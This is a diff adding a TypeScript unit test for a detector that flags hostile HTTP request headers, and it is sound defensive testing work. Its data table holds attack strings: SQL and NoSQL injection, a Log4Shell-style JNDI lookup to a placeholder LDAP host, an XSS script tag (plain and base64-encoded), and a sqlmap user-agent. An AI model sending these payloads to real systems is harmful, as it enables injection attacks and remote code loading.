@@ -1,0 +1,48 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { ApiCall } from '../../model/api-call.ts';
+import { parseExchange } from '../exchange-parser.ts';
+import { contentThreats, isHarmlessHeader } from './content-threats.ts';
+
+function hasThreat(name: string, value: string): boolean {
+  const call: ApiCall = {
+    id: null,
+    timeMs: 0,
+    method: 'GET',
+    scheme: null,
+    host: 'api.shop.example',
+    path: '/v1/orders',
+    query: null,
+    status: 200,
+    client: { address: null, id: null },
+    latencyMs: null,
+    request: { headers: { [name]: value }, body: null, sizeBytes: null },
+    response: { headers: null, body: null, sizeBytes: null },
+    gateway: null,
+    operation: null,
+  };
+  return contentThreats(parseExchange(call)).length > 0;
+}
+
+const VALUES: readonly (readonly [string, string, boolean])[] = [
+  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', true],
+  ['x-amzn-trace-id', 'Root=1-67891233-abcdef012345678912345678', true],
+  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)', true],
+  ['x-customer', "O'Brien & Sons", true],
+  ['x-id', '0f9d2c7b', true],
+  ['user-agent', 'sqlmap/1.7', false],
+  ['x-id', "1' or '1'='1", false],
+  ['x-log', '${jndi:ldap://a.example/a}', false],
+  ['x-filter', '{"name":{"$ne":null}}', false],
+  ['x-page', '<script>alert(1)</script>', false],
+  ['x-packed', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', false],
+];
+
+for (const [name, value, harmless] of VALUES) {
+  test(`${harmless ? 'harmless' : 'not harmless'} by itself: ${name}: ${value.slice(0, 30)}`, () => {
+    assert.equal(isHarmlessHeader(name, value), harmless);
+    // What is harmless is never found; asked after the search has remembered it, too.
+    if (harmless) assert.equal(hasThreat(name, value), false);
+    assert.equal(isHarmlessHeader(name, value), harmless);
+  });
+}
